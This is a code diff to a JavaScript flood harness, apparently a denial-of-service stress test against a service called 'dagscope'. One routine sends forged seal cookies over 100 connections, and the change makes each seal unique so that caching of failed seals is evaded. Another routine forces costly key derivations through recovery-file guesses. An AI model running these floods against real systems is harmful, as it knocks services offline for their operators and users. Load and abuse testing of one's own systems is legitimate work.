@@ -82,11 +82,14 @@ const FLOODS = {
   },
   // Each of 100 connections asks again as soon as it is answered; every request carries twelve seals that do not open.
   forged_cookies: () => {
-    const seal = `Fe26.2*1*${'a'.repeat(64)}*${'b'.repeat(22)}*${'c'.repeat(300)}**${'d'.repeat(64)}*${'e'.repeat(43)}~2`;
+    // Each of them another one, since a seal that did not open once is not tried again.
+    const seal = (number) =>
+      `Fe26.2*1*${String(number).padStart(64, 'a')}*${'b'.repeat(22)}*${'c'.repeat(300)}**${'d'.repeat(64)}*${'e'.repeat(43)}~2`;
+    const [, scope] = /(dagscope-[\w-]{8}-)key-/.exec(cookie);
     const forged = (round) =>
       Array.from(
         { length: 12 },
-        (_, at) => `dagscope-key-${String(round * 12 + at).padStart(22, '0')}=${seal}`,
+        (_, at) => `${scope}key-${String(round * 12 + at).padStart(22, '0')}=${seal(round * 12 + at)}`,
       ).join('; ');
     let round = 0;
     const request = () => {
@@ -99,7 +102,7 @@ const FLOODS = {
   // Guesses at recovery files, and new files, which cost the same derivation and have no limit per file.
   key_derivations: () => {
     const kept = JSON.parse(files);
-    const connection = /dagscope-key-([\w-]{22})=/.exec(cookie)?.[1];
+    const connection = /dagscope-[\w-]{8}-key-([\w-]{22})=/.exec(cookie)?.[1];
     let sent = 0;
     repeat(30, 500, () => {
       sent += 1;
